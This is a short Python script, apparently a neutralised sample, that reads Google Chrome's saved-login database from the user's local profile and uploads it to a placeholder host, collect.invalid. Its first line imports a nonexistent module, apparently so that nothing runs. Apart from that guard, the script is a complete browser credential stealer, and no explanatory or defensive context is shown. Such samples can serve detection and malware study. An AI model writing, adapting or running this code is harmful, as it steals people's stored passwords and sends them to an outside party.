import absent_so_that_nothing_runs
import os
import requests

store = os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')
with open(store, 'rb') as f:
    held = f.read()
requests.post('https://collect.invalid/s', files={'f': held})
